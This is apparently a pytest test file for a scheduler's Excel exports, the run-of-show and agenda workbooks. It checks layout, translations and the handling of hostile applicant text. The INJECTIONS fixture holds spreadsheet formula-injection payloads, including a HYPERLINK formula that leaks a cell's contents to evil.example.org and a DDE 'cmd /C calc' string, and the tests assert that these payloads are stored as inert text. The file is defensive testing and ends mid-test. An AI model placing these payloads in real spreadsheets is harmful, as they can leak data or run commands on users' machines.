"""Both workbooks, written from a planned event and read back cell by cell with openpyxl.

The hand-built event carries what applicants really type: names that start like formulas, line breaks,
Cyrillic, Arabic, emoji, control characters, a 500-character name. Row heights are checked against an
independent lower bound: a line of 11-point text needs at least 12 points, and no font fits more than 1.2
characters per unit of column width.
"""

from __future__ import annotations

import datetime as dt
import math
import re
import shutil
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from scheduler import release
from scheduler.domain import Category, Event, Plan, Segments, Window
from scheduler.export.agenda_xlsx import NOT_COVERED, write_agenda
from scheduler.export.cells import clean
from scheduler.export.run_of_show import HEADER, LABEL_COLUMNS, MIN_SCALE, STATUSES, write_run_of_show
from scheduler.i18n import translator
from scheduler.load import load_event
from scheduler.rulebook import SOFT
from scheduler.views import PlanView, build_view
from tests.factories import DAY, GENERATED, event, person, session

INJECTIONS = {
    "M1": '=HYPERLINK("http://evil.example.org/?leak="&A1,"Click")',
    "P1": "Line one\r\nЖанар Абенова\rthird",
    "P2": "ليلى حداد 🌍",
    "P3": "Ana " + "Maria-" * 82 + "Long",  # 500 characters
    "P4": "\t=cmd|' /C calc'!A0",
    "P5": "Bad\x00\x07Name\x1b",
    "R1": "@SUM(1+1)",
}
LONG = INJECTIONS["P3"]
SESSIONS = ["S1", "S2"]


def tricky_event(**kw: Any) -> Event:
    """Two sessions, seven people whose text tries everything; P4 is never available."""
    budget = Segments(opening=5, intervention=10, discussion=10, closing=5)
    people = [
        person("M1", "S1:moderator", organisation="+1-555 Org", function="@chair"),
        person(
            "P1",
            "S1:speaker",
            function="Заместитель министра",
            organisation="Министерство",
            country="Kazakhstan",
            timezone="Asia/Almaty",
            languages=("ru", "en"),
            objectives=(1,),
            submission_date=dt.date(2020, 11, 3),
            submission_words=6000,
            gender="f",
        ),
        person(
            "P2",
            "S1:speaker",
            category=Category.MEMBER_STATE,
            level="minister",
            country="Norway",
            organisation='Ministry of "Justice" & Public Security',
            objectives=(2,),
            submission_date=dt.date(2020, 10, 20),
            submission_words=4000,
            gender="m",
        ),
        person(
            "P3",
            "S1:speaker",
            organisation="-2+3",
            function="\tTab first",
            objectives=(1, 2),
            gender="x",
            country="Serbia",
        ),
        person("P4", "S1:speaker", available=(Window(6 * 60, 7 * 60),), objectives=(1,)),
        person("M2", "S2:moderator"),
        person("P5", "S2:speaker", objectives=(3,), submission_words=300),
        person("R1", "S2:rapporteur"),
    ]
    people = [replace(p, name=INJECTIONS.get(p.id, p.name)) for p in people]
    values: dict[str, Any] = {
        "languages": ("en", "ru"),
        "speaker_link": "https://meet.example.org/j/1?pwd=x",
        "submission_deadline": dt.date(2020, 10, 31),
        "submission_word_limit": 5000,
        "objective_titles": {1: "Data", 2: "Drivers", 3: "Information"},
    }
    values.update(kw)
    return event(
        [
            session("S1", objectives=(1, 2), speakers=(2, 3), segments=budget),
            session("S2", start=dt.time(11, 30), objectives=(3,), speakers=(1, 2), rapporteurs=1),
        ],
        people,
        **values,
    )


@pytest.fixture(scope="module")
def planned() -> tuple[Event, Plan]:
    ev = tricky_event()
    return ev, release.plan(ev, generated_at=GENERATED, time_limit=20)


@pytest.fixture(scope="module")
def view(planned: tuple[Event, Plan]) -> PlanView:
    return build_view(*planned)


@pytest.fixture(scope="module")
def books(view: PlanView, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("books")
    write_run_of_show(view, folder / "run-of-show.xlsx")
    write_agenda(view, folder / "agenda.xlsx")
    return folder


@pytest.fixture(scope="module")
def default_books(tmp_path_factory: pytest.TempPathFactory) -> tuple[PlanView, Path]:
    """The default event's workbooks, and its run-of-show as French and as Russian moderators would get it."""
    ev = load_event("data/gcm2020-unece")
    result = build_view(ev, release.plan(ev, generated_at=GENERATED, time_limit=60))
    folder = tmp_path_factory.mktemp("default")
    write_run_of_show(result, folder / "run-of-show.xlsx")
    for language in ("fr", "ru"):
        write_run_of_show(in_language(result, language), folder / f"run-of-show-{language}.xlsx")
    write_agenda(result, folder / "agenda.xlsx")
    return result, folder


def in_language(view: PlanView, language: str) -> PlanView:
    """The view with every session's run-of-show in `language`, as if every moderator read it."""
    return replace(view, sessions=tuple(replace(s, language=language) for s in view.sessions))


@pytest.fixture(scope="module")
def multilingual(planned: tuple[Event, Plan], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tricky plan in an event written in English, French and Russian: S1's moderator corresponds in
    French, S2's speaks Russian; the organisers translated the titles and one objective label."""
    ev, result = planned
    people = tuple(
        replace(p, correspondence_language="fr")
        if p.id == "M1"
        else replace(p, languages=("ru",))
        if p.id == "M2"
        else p
        for p in ev.applicants
    )
    titles = (("fr", "Table ronde S1"), ("ru", "Круглый стол S2"))
    again = replace(
        ev,
        languages=("en", "fr", "ru"),
        applicants=people,
        sessions=tuple(replace(s, title_translations=titles) for s in ev.sessions),
        title_translations=(("fr", "Petit événement"), ("ru", "Небольшое мероприятие")),
        objective_translations={"fr": {1: "Données"}},
    )
    folder = tmp_path_factory.mktemp("multilingual")
    write_run_of_show(build_view(again, result), folder / "run-of-show.xlsx")
    return folder


# --- helpers ---------------------------------------------------------------------------------------------


def values(ws: Worksheet, row: int) -> list[Any]:
    return [c.value for c in ws[row]]


def header_row(ws: Worksheet, first: str) -> int:
    """The row whose column A holds `first`: where a table starts."""
    return next(r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=1).value == first)


def records(ws: Worksheet, first: str) -> list[dict[str, Any]]:
    """The table starting at the row whose column A is `first`, as dictionaries."""
    top = header_row(ws, first)
    names = [str(c.value) for c in ws[top] if c.value is not None]
    return [
        dict(zip(names, (c.value for c in ws[r]), strict=False))
        for r in range(top + 1, ws.max_row + 1)
        if ws.cell(row=r, column=1).value is not None
    ]


def assert_no_formulas(path: Path) -> None:
    book = load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(r"<f[ >]", archive.read(name).decode()), name


def column_width(ws: Worksheet, column: int) -> float:
    """The width of a column as the file gives it: one <col> element may give it for a range of columns."""
    for dimension in ws.column_dimensions.values():
        if (
            dimension.min is not None
            and dimension.max is not None
            and dimension.min <= column <= dimension.max
        ):
            return float(dimension.width)
    return 8.43


def page_fit(value: int | None) -> int:
    """fitToWidth or fitToHeight as a program reads it: left out, it is 1 (ECMA-376, CT_PageSetup)."""
    return 1 if value is None else int(value)


def assert_rows_tall_enough(ws: Worksheet) -> None:
    """Every row is at least as tall as its longest text needs, by a bound independent of the estimator."""
    merged = {
        (r.min_row, r.min_col): sum(column_width(ws, c) for c in range(r.min_col, r.max_col + 1))
        for r in ws.merged_cells.ranges
    }
    for row in ws.iter_rows():
        for cell in row:
            if not isinstance(cell.value, str) or cell.column is None:
                continue
            width = merged.get((cell.row, cell.column)) or column_width(ws, cell.column)
            size = cell.font.sz or 11
            lines = sum(
                math.ceil(max(1, len(part)) / (width * 1.2 * 11 / size)) for part in cell.value.split("\n")
            )
            height = ws.row_dimensions[cell.row].height
            assert height is not None, f"{ws.title}!{cell.coordinate}: no row height"
            assert height >= lines * 12 * size / 11, f"{ws.title}!{cell.coordinate}: {height} < {lines} lines"


def one_page_scale(ws: Worksheet) -> float:
    """The scale at which the sheet fits on one A4 landscape page, from the file's own column widths (a stored
    width is in units of 7 pixels), row heights and margins."""
    width = sum(column_width(ws, c) * 7 for c in range(1, ws.max_column + 1)) * 72 / 96
    height = sum(ws.row_dimensions[r].height or 15 for r in range(1, ws.max_row + 1))
    margins = ws.page_margins
    page_width = 297 / 25.4 * 72 - 72 * (margins.left + margins.right)
    page_height = 210 / 25.4 * 72 - 72 * (margins.top + margins.bottom)
    return min(1.0, page_width / width, page_height / height)


def footer(language: str) -> str:
    """The centre of the page footer as the file holds it: "Page &P of &N" in the sheet's language."""
    return translator(language)._("Page {page} of {pages}").replace("{page}", "&P").replace("{pages}", "&N")


def assert_prints_landscape_one_page_wide(ws: Worksheet, title_row: int, language: str = "en") -> None:
    setup = ws.page_setup
    assert setup.orientation == "landscape"
    assert str(setup.paperSize) == str(ws.PAPERSIZE_A4)
    assert ws.sheet_properties.pageSetUpPr is not None
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert page_fit(setup.fitToWidth) == 1
    assert ws.print_title_rows == f"${title_row}:${title_row}"
    assert ws.oddFooter is not None
    assert ws.oddFooter.center.text == footer(language)


# --- the plan the tests rely on ------------------------------------------------------------------------


def test_the_tricky_event_plans_as_the_tests_expect(planned: tuple[Event, Plan]) -> None:
    _, result = planned
    assert sorted(result.assigned("S1")) == ["M1", "P1", "P2", "P3"]
    assert sorted(result.assigned("S2")) == ["M2", "P5", "R1"]
    assert [u.participant for u in result.unassigned] == ["P4"]


# --- run-of-show.xlsx ----------------------------------------------------------------------------------


def test_run_of_show_has_one_sheet_per_session_in_time_order(books: Path) -> None:
    assert load_workbook(books / "run-of-show.xlsx").sheetnames == SESSIONS


def test_run_of_show_sheet_names_are_valid_and_unique(tmp_path: Path, view: PlanView) -> None:
    ids = ["Round table: migrants/diaspora [A]", "Round table: migrants/diaspora [B]"]
    sessions = tuple(
        replace(s, session=replace(s.session, id=new)) for s, new in zip(view.sessions, ids, strict=True)
    )
    write_run_of_show(replace(view, sessions=sessions), tmp_path / "ros.xlsx")
    assert load_workbook(tmp_path / "ros.xlsx").sheetnames == [
        "Round table_ migrants_diaspora",
        "Round table_ migrants_diasp (2)",
    ]


def test_run_of_show_header_block_gives_the_sessions_facts(books: Path) -> None:
    ws = load_workbook(books / "run-of-show.xlsx")["S1"]
    assert ws["A1"].value == "Session S1"
    facts = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=LABEL_COLUMNS + 1).value for r in range(2, 12)}
    assert facts["When"] == "Thursday, 12 November 2020, 10:00-11:00 CET (Europe/Zurich), 60 minutes"
    assert facts["Tech check"] == "09:30 CET: speakers and moderators join 30 minutes early"
    assert facts["Moderators"] == f"{INJECTIONS['M1']} (@chair, +1-555 Org)"
    assert facts["Objectives"] == "1 Data; 2 Drivers"
    assert facts["Languages"] == "English, Russian"
    assert facts["Speaker link"] == "https://meet.example.org/j/1?pwd=x"
    assert "Rapporteurs" not in facts  # S1 has none
    link = next(
        ws.cell(row=r, column=LABEL_COLUMNS + 1)
        for r in range(2, 12)
        if ws.cell(row=r, column=1).value == "Speaker link"
    )
    assert link.hyperlink is not None and link.hyperlink.target == "https://meet.example.org/j/1?pwd=x"
    s2 = load_workbook(books / "run-of-show.xlsx")["S2"]
    s2_facts = {s2.cell(row=r, column=1).value: s2.cell(row=r, column=LABEL_COLUMNS + 1).value for r in range(2, 12)}
    assert s2_facts["Rapporteurs"] == clean(INJECTIONS["R1"])


def test_run_of_show_rows_are_the_views_running_order(books: Path, view: PlanView) -> None:
    book = load_workbook(books / "run-of-show.xlsx")
    for s in view.sessions:
        ws = book[s.id]
        top = header_row(ws, "#")
        assert values(ws, top) == list(HEADER)
        rows = [values(ws, r) for r in range(top + 1, ws.max_row + 1)]
        assert len(rows) == len(s.items)
        for row, item in zip(rows, s.items, strict=True):
            name = clean(item.person.name) if item.person else None
            assert row[:6] == [
                item.number,
                item.start.time(),
                item.end.time(),
                item.minutes,
                item.segment,
                name,
            ]
            assert row[8] == (item.role.value if item.role else None)
            assert row[12] is None  # status: for the moderator to fill in


def test_run_of_show_shows_details_local_time_and_cues(books: Path) -> None:
    ws = load_workbook(books / "run-of-show.xlsx")["S1"]
    rows = {r["speaker"]: r for r in records(ws, "#")}
    kazakh = rows[clean(INJECTIONS["P1"])]
    assert kazakh["function and organisation"] == "Заместитель министра, Министерство"
    assert kazakh["delegation"] == "civil society (Kazakhstan)"
    assert kazakh["language"] == "Russian"  # the item's language, named in the sheet's language
    start = dt.datetime.combine(DAY, kazakh["start"])
    # Almaty was UTC+6 in 2020, five hours ahead of Geneva in November; interventions last 10 minutes.
    local = start + dt.timedelta(hours=5)
    assert kazakh["speaker's local time"] == f"{local:%H:%M}-{local + dt.timedelta(minutes=10):%H:%M} +06"
    warning = start + dt.timedelta(minutes=9)
    assert kazakh["cue"].split("\n")[0] == f"1-minute warning at {warning:%H:%M}"
    assert rows[clean(INJECTIONS["P2"])]["delegation"] == "Norway"
    assert rows[INJECTIONS["P3"]]["delegation"] == "civil society (Serbia)"  # not a State's
    assert [r["segment"] for r in records(ws, "#")] == [
        "opening",
        "intervention",
        "intervention",
        "intervention",
        "discussion",
        "closing",
    ]


def test_run_of_show_status_column_has_a_drop_down(books: Path) -> None:
    ws = load_workbook(books / "run-of-show.xlsx")["S1"]
    top = header_row(ws, "#")
    (status,) = ws.data_validations.dataValidation
    assert status.type == "list"
    assert status.formula1 == '"' + ",".join(STATUSES) + '"'
    assert STATUSES == ("ready", "on air", "done", "skipped")
    assert str(status.sqref) == f"M{top + 1}:M{ws.max_row}"


def test_run_of_show_prints_on_a4_landscape_one_page_wide(books: Path) -> None:
    book = load_workbook(books / "run-of-show.xlsx")
    # S1 holds a 500-character name: too tall for one readable page, so as many pages as it needs (0); S2 is
    # short: one.
    assert [page_fit(ws.page_setup.fitToHeight) for ws in book.worksheets] == [0, 1]
    assert one_page_scale(book["S1"]) < MIN_SCALE <= one_page_scale(book["S2"])
    for ws in book.worksheets:
        top = header_row(ws, "#")
        assert_prints_landscape_one_page_wide(ws, top)
        assert ws.freeze_panes == f"A{top + 1}"
        assert ws.oddHeader is not None
        assert ws.oddHeader.left.text == "Tiny event"
        assert_rows_tall_enough(ws)


def test_run_of_show_long_name_gets_a_tall_row(books: Path) -> None:
    ws = load_workbook(books / "run-of-show.xlsx")["S1"]
    row = next(c.row for c in ws["F"] if c.value == LONG)
    assert row is not None
    height = ws.row_dimensions[row].height
    assert height is not None and height >= 500 / (22 * 1.2) * 12


# --- agenda.xlsx ---------------------------------------------------------------------------------------

AGENDA_SHEETS = [
    "Programme",
    "Assignments",
    "Coverage",
    "Balance",
    "Waiting list",
    "Changes",
    "Submissions",
    "Solver",
]
TABLE_STARTS = {
    "Programme": "date",
    "Assignments": "session",
    "Coverage": "objective",
    "Balance": "session",
    "Waiting list": "id",
    "Changes": "change",
    "Submissions": "id",
    "Solver": "soft rule",
}


def test_agenda_has_its_sheets_each_a_frozen_filterable_printable_table(books: Path) -> None:
    book = load_workbook(books / "agenda.xlsx")
    assert book.sheetnames == AGENDA_SHEETS
    for ws in book.worksheets:
        top = header_row(ws, TABLE_STARTS[ws.title])
        assert ws.freeze_panes == f"A{top + 1}", ws.title
        filtered = [t.ref for t in ws.tables.values()] + ([ws.auto_filter.ref] if ws.auto_filter.ref else [])
        assert any(ref.startswith(f"A{top}:") for ref in filtered), ws.title
        assert_prints_landscape_one_page_wide(ws, top)
        assert_rows_tall_enough(ws)


def test_agenda_programme_lists_sessions_in_time_order(books: Path, view: PlanView) -> None:
    ws = load_workbook(books / "agenda.xlsx")["Programme"]
    assert ws["A1"].value == "Dates and times in the event's time zone (CET, Europe/Zurich)"
    rows = records(ws, "date")
    assert [r["session"] for r in rows] == SESSIONS
    first = rows[0]
    assert (first["start"], first["end"], first["kind"], first["objectives"]) == (
        dt.time(10, 0),
        dt.time(11, 0),
        "roundtable",
        "1, 2",
    )
    assert first["date"] == dt.datetime.combine(DAY, dt.time())
    assert first["moderators"] == INJECTIONS["M1"]
    assert first["speakers"] == 3
    assert first["speaking order"] == "; ".join(clean(p.name) for p in view.session("S1").speakers)
    assert rows[1]["rapporteurs"] == INJECTIONS["R1"]


def test_agenda_assignments_has_every_role(books: Path, planned: tuple[Event, Plan]) -> None:
    _, result = planned
    rows = records(load_workbook(books / "agenda.xlsx")["Assignments"], "session")
    assert sorted((r["session"], r["id"], r["role"]) for r in rows) == sorted(
        (a.session, a.participant, a.role.value) for a in result.assignments
    )
    kazakh = next(r for r in rows if r["id"] == "P1")
    assert (kazakh["name"], kazakh["country"], kazakh["choice"], kazakh["email"]) == (
        clean(INJECTIONS["P1"]),
        "Kazakhstan",
        1,
        "p1@example.org",
    )


def test_agenda_coverage_names_the_speakers_of_each_objective(books: Path, view: PlanView) -> None:
    rows = {r["objective"]: r for r in records(load_workbook(books / "agenda.xlsx")["Coverage"], "objective")}
    order = [p.id for p in view.session("S1").speakers]
    by_id = {pid: clean(INJECTIONS[pid]) for pid in ("P1", "P2", "P3", "P5")}
    assert rows[1]["label"] == "Data"
    assert rows[1]["session"] == "S1"
    assert rows[1]["S1"] == "; ".join(by_id[p] for p in order if p in ("P1", "P3"))
    assert rows[2]["S1"] == "; ".join(by_id[p] for p in order if p in ("P2", "P3"))
    assert rows[3]["S2"] == by_id["P5"]
    assert rows[3]["S1"] is None
    assert NOT_COVERED not in {v for r in rows.values() for v in r.values()}


def test_agenda_coverage_says_not_covered(tmp_path: Path, planned: tuple[Event, Plan]) -> None:
    ev, result = planned
    # The same plan shown against an event whose S2 also lists objective 2: nobody in S2 declared it.
    sessions = tuple(replace(s, objectives=(2, 3)) if s.id == "S2" else s for s in ev.sessions)
    write_agenda(build_view(replace(ev, sessions=sessions), result), tmp_path / "agenda.xlsx")
    rows = {
        r["objective"]: r for r in records(load_workbook(tmp_path / "agenda.xlsx")["Coverage"], "objective")
    }
    assert rows[2]["S2"] == NOT_COVERED
    assert rows[2]["session"] == "S1, S2"


def test_agenda_balance_counts_each_panel(books: Path) -> None:
    rows = records(load_workbook(books / "agenda.xlsx")["Balance"], "session")
    s1 = {(r["dimension"], r["value"]): (r["people"], r["of"]) for r in rows if r["session"] == "S1"}
    assert s1[("gender", "f")] == (1, 4)
    assert s1[("gender", "m")] == (1, 4)
    assert s1[("gender", "x")] == (1, 4)
    assert s1[("gender", "not stated")] == (1, 4)  # the moderator
    assert s1[("category", "stakeholder")] == (3, 4)
    assert s1[("category", "member_state")] == (1, 4)
    assert s1[("subregion", "not stated")] == (3, 3)
    assert s1[("stakeholder group", "civil_society")] == (2, 2)
    share = next(
        r["share"]
        for r in rows
        if (r["session"], r["dimension"], r["value"]) == ("S1", "category", "stakeholder")
    )
    assert share == pytest.approx(0.75)


def test_agenda_waiting_list_gives_reasons(books: Path) -> None:
    (row,) = records(load_workbook(books / "agenda.xlsx")["Waiting list"], "id")
    assert (row["id"], row["name"], row["interests (ranked)"]) == (
        "P4",
        clean(INJECTIONS["P4"]),
        "S1:speaker",
    )
    assert row["reason"].startswith("S1 speaker: not available at 12 Nov 10:")


def test_agenda_submissions_flag_late_and_long(books: Path) -> None:
    ws = load_workbook(books / "agenda.xlsx")["Submissions"]
    assert values(ws, 1) == [
        "id",
        "name",
        "category",
        "delegation or organisation",
        "received",
        "words",
        "after the deadline (2020-10-31)",
        "over 5,000 words",
        "objectives addressed",
        "in the plan",
    ]
    rows = {r["id"]: list(r.values())[4:] for r in records(ws, "id")}
    assert rows == {
        "P1": [dt.datetime(2020, 11, 3), 6000, "yes", "yes", "1", "S1 speaker"],
        "P2": [dt.datetime(2020, 10, 20), 4000, None, None, "2", "S1 speaker"],
        "P5": [None, 300, None, None, "3", "S2 speaker"],
    }


def test_agenda_solver_reports_status_and_every_soft_rule(books: Path, planned: tuple[Event, Plan]) -> None:
    _, result = planned
    assert result.solver is not None
    ws = load_workbook(books / "agenda.xlsx")["Solver"]
    facts = {ws.cell(row=r, column=1).value: ws.cell(row=r, column=2).value for r in range(1, 8)}
    assert facts["status"] == result.solver.status
    assert facts["objective (total cost)"] == result.solver.objective
    assert facts["best bound"] == result.solver.bound
    assert facts["generated at (UTC)"] == GENERATED.replace(tzinfo=None)
    rules = records(ws, "soft rule")
    assert [r["soft rule"] for r in rules] == list(SOFT)
    for r in rules:
        assert r["units"] == result.solver.costs[r["soft rule"]]
        assert r["weight"] == result.solver.weights[r["soft rule"]]
        assert r["cost"] == r["units"] * r["weight"]
    assert sum(r["cost"] for r in rules) == result.solver.objective


def test_agenda_changes_list_what_a_re_plan_changed(tmp_path: Path, planned: tuple[Event, Plan]) -> None:
    ev, first = planned
    people = tuple(replace(p, withdrawn=True) if p.id == "P2" else p for p in ev.applicants)
    again = replace(ev, applicants=people)
    second = release.plan(again, previous=first, generated_at=GENERATED + dt.timedelta(days=1), time_limit=20)
    write_agenda(build_view(again, second), tmp_path / "agenda.xlsx")
    ws = load_workbook(tmp_path / "agenda.xlsx")["Changes"]
    assert len(second.changes) == 1  # nobody else can take P2's place
    assert ws["A1"].value == "Version 2: 1 change versus version 1"
    rows = records(ws, "change")
    removed = next(r for r in rows if r["participant"] == "P2")
    assert (removed["change"], removed["session"], removed["role"], removed["reason"]) == (
        "removed",
        "S1",
        "speaker",
        "withdrawn",
    )
    assert removed["name"] == clean(INJECTIONS["P2"])


def test_agenda_first_version_says_so(books: Path) -> None:
    ws = load_workbook(books / "agenda.xlsx")["Changes"]
    assert ws["A1"].value == "Version 1: the first version"
    assert records(ws, "change") == []


@pytest.mark.parametrize("workbook", ["run-of-show.xlsx", "agenda.xlsx"])
def test_workbooks_are_the_same_bytes_for_the_same_plan(
    tmp_path: Path, view: PlanView, workbook: str
) -> None:
    write = write_agenda if workbook == "agenda.xlsx" else write_run_of_show
    write(view, tmp_path / "a.xlsx")
    write(view, tmp_path / "b.xlsx")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    # dated by the plan, not by the clock
    created = load_workbook(tmp_path / "a.xlsx").properties.created
    assert created == view.plan.generated_at.astimezone(dt.UTC).replace(tzinfo=None)


# --- applicant text stays data -------------------------------------------------------------------------


@pytest.mark.parametrize("workbook", ["run-of-show.xlsx", "agenda.xlsx"])
def test_no_cell_is_a_formula(books: Path, workbook: str) -> None:
    assert_no_formulas(books / workbook)


@pytest.mark.parametrize("workbook", ["run-of-show.xlsx", "agenda.xlsx"])
def test_applicant_text_round_trips_as_quoted_text(books: Path, workbook: str) -> None:
    book = load_workbook(books / workbook)
    found: dict[str, Any] = {}
    wanted = {clean(text): pid for pid, text in INJECTIONS.items()}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in wanted:
                    found[wanted[cell.value]] = cell
    assert set(found) == set(INJECTIONS) - ({"P4"} if workbook == "run-of-show.xlsx" else set())
    for pid, cell in found.items():
        assert cell.data_type == "s"
        assert cell.quotePrefix == INJECTIONS[pid].startswith(("=", "+", "-", "@", "\t", "\r")), pid
    # What openpyxl can store is stored exactly; CR becomes LF, control characters U+FFFD.
    assert clean(INJECTIONS["P1"]) == "Line one\nЖанар Абенова\nthird"
    assert clean(INJECTIONS["P5"]) == "Bad\ufffd\ufffdName\ufffd"
    assert len(LONG) == 500 and clean(LONG) == LONG


# --- the default event ---------------------------------------------------------------------------------


def test_default_event_run_of_show(default_books: tuple[PlanView, Path]) -> None:
    result, folder = default_books
    book = load_workbook(folder / "run-of-show.xlsx")
    assert book.sheetnames == [s.id for s in result.sessions]
    for s in result.sessions:
        ws = book[s.id]
        top = header_row(ws, "#")
        assert [r["#"] for r in records(ws, "#")] == [i.number for i in s.items]
        assert_prints_landscape_one_page_wide(ws, top, s.language)
        assert_rows_tall_enough(ws)
    assert_no_formulas(folder / "run-of-show.xlsx")


@pytest.mark.parametrize("workbook", ["run-of-show.xlsx", "run-of-show-fr.xlsx", "run-of-show-ru.xlsx"])
def test_default_event_run_of_show_fits_each_session_on_one_readable_page(
    default_books: tuple[PlanView, Path], workbook: str
) -> None:
    """In every language: French and Russian words are longer than English ones."""
    _, folder = default_books
    book = load_workbook(folder / workbook)
    for ws in book.worksheets:
        assert page_fit(ws.page_setup.fitToHeight) == 1, ws.title
        assert one_page_scale(ws) >= MIN_SCALE, ws.title


@pytest.mark.slow
def test_default_event_run_of_show_prints_one_page_per_session(
    default_books: tuple[PlanView, Path], tmp_path: Path
) -> None:
    """LibreOffice prints the workbook as it is laid out: each sheet prints at least one page, so as many
    pages as sessions means one page each; in English, French and Russian."""
    result, folder = default_books
    assert shutil.which("soffice"), "LibreOffice is needed: `make test` installs it (make system-packages)"
    profile = (tmp_path / "profile").as_uri()  # its own profile: another soffice may be running
    names = ["run-of-show.xlsx", "run-of-show-fr.xlsx", "run-of-show-ru.xlsx"]
    subprocess.run(
        ["soffice", f"-env:UserInstallation={profile}", "--headless", "--convert-to", "pdf",
         "--outdir", str(tmp_path), *(str(folder / name) for name in names)],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    for name in names:
        pdf = (tmp_path / name).with_suffix(".pdf").read_bytes()
        assert len(re.findall(rb"/Type\s*/Page(?!s)", pdf)) == len(result.sessions), name


def test_default_event_agenda(default_books: tuple[PlanView, Path]) -> None:
    result, folder = default_books
    book = load_workbook(folder / "agenda.xlsx")
    assert book.sheetnames == AGENDA_SHEETS
    coverage = records(book["Coverage"], "objective")
    assert [r["objective"] for r in coverage] == list(range(1, 24))
    assert NOT_COVERED not in {v for r in coverage for v in r.values()}
    assert len(records(book["Waiting list"], "id")) == len(result.unassigned)
    assert len(records(book["Assignments"], "session")) == len(result.plan.assignments)
    for ws in book.worksheets:
        assert_rows_tall_enough(ws)
    assert_no_formulas(folder / "agenda.xlsx")


# --- languages ---------------------------------------------------------------------------------------


def facts_of(ws: Worksheet) -> dict[str, Any]:
    top = header_row(ws, "#")
    return {ws.cell(row=r, column=1).value: ws.cell(row=r, column=LABEL_COLUMNS + 1).value for r in range(2, top)}


def test_run_of_show_of_a_french_moderator_is_in_french(multilingual: Path) -> None:
    ws = load_workbook(multilingual / "run-of-show.xlsx")["S1"]  # the sheet keeps the session's id

    assert ws["A1"].value == "Table ronde S1"  # the organisers' translation
    assert facts_of(ws) == {
        "Date et heure": "jeudi 12 novembre 2020, 10:00-11:00 CET (Europe/Zurich), 60 minutes",
        "Test technique": "09:30 CET : orateur·rices et modérateur·rices se connectent 30 minutes avant",
        "Modérateur·rices": f"{INJECTIONS['M1']} (@chair, +1-555 Org)",
        "Objectifs": "1 Données; 2 Drivers",  # no French label for 2: as objectives.csv has it
        "Langues": "anglais, français, russe",
        "Lien de connexion": "https://meet.example.org/j/1?pwd=x",
    }
    top = header_row(ws, "#")
    assert values(ws, top) == [
        "#", "début", "fin", "min", "séquence", "orateur·rice", "fonction et organisation", "délégation",
        "rôle", "langue", "heure locale de l’orateur·rice", "consigne", "statut",
    ]  # fmt: skip
    rows = records(ws, "#")
    assert [r["séquence"] for r in rows] == [
        "ouverture",
        "intervention",
        "intervention",
        "intervention",
        "débat",
        "clôture",
    ]
    assert {r["rôle"] for r in rows} == {"modérateur·rice", "orateur·rice"}
    kazakh = next(r for r in rows if r["orateur·rice"] == clean(INJECTIONS["P1"]))
    assert kazakh["délégation"] == "société civile (Kazakhstan)"
    assert kazakh["consigne"].split("\n")[0].endswith(" : reste 1 minute")
    assert kazakh["consigne"].split("\n")[1].startswith("Ensuite : ")
    assert kazakh["langue"] == "russe"
    assert rows[0]["consigne"].startswith("Accueil ; consignes (interprétation, main levée, chat)")
    (status,) = ws.data_validations.dataValidation
    assert status.formula1 == '"prêt,en direct,terminé,omis"'
    assert (status.errorTitle, status.error) == ("Statut", "Choisissez prêt, en direct, terminé ou omis.")
    assert ws.oddHeader is not None
    assert (ws.oddHeader.left.text, ws.oddHeader.right.text) == ("Petit événement", "S1, 12 nov. 2020")
    assert_prints_landscape_one_page_wide(ws, top, "fr")


def test_run_of_show_of_a_russian_moderator_is_in_russian(multilingual: Path) -> None:
    ws = load_workbook(multilingual / "run-of-show.xlsx")["S2"]

    assert ws["A1"].value == "Круглый стол S2"
    facts = facts_of(ws)
    assert list(facts) == ["Дата и время", "Техническая проверка", "Модераторы", "Докладчики", "Цели", "Языки", "Подключение"]  # fmt: skip
    assert facts["Дата и время"] == "четверг, 12 ноября 2020 г., 11:30-12:30 CET (Europe/Zurich), 60 минут"
    assert (
        facts["Техническая проверка"] == "11:00 CET: ораторы и модераторы подключаются за 30 минут до начала"
    )
    assert facts["Цели"] == "3 Information"  # no official Russian title: shown as written
    assert facts["Языки"] == "английский, французский, русский"
    top = header_row(ws, "#")
    assert values(ws, top)[4:9] == ["этап", "оратор", "должность и организация", "делегация", "роль"]
    rows = records(ws, "#")
    assert [(r["этап"], r["роль"]) for r in rows] == [
        ("открытие", "модератор"),
        ("выступление", "оратор"),
        ("закрытие", "модератор"),
    ]
    assert rows[1]["указание"].split("\n") == [rows[1]["указание"].split("\n")[0], "Далее: Person M2"]
    assert rows[1]["указание"].split("\n")[0].endswith(" — осталась 1 минута")
    assert rows[1]["делегация"] == "гражданское общество"
    (status,) = ws.data_validations.dataValidation
    assert status.formula1 == '"готово,в эфире,завершено,пропущено"'
    assert ws.oddHeader is not None
    assert ws.oddHeader.left.text == "Небольшое мероприятие"
    assert_prints_landscape_one_page_wide(ws, top, "ru")


def test_agenda_is_in_the_events_first_language(tmp_path: Path, planned: tuple[Event, Plan]) -> None:
    ev, result = planned
    write_agenda(build_view(replace(ev, languages=("fr", "en")), result), tmp_path / "agenda.xlsx")
    book = load_workbook(tmp_path / "agenda.xlsx")

    assert book.sheetnames == [
        "Programme",
        "Attributions",
        "Couverture",
        "Équilibre",
        "Liste d’attente",
        "Modifications",
        "Contributions écrites",
        "Solveur",
    ]
    programme = book["Programme"]
    assert (
        programme["A1"].value == "Dates et heures dans le fuseau horaire de la réunion (CET, Europe/Zurich)"
    )
    assert values(programme, 3)[:6] == ["date", "début", "fin", "séance", "titre", "type"]
    assert book["Modifications"]["A1"].value == "Version 1 : première version"
    submissions = records(book["Contributions écrites"], "id")
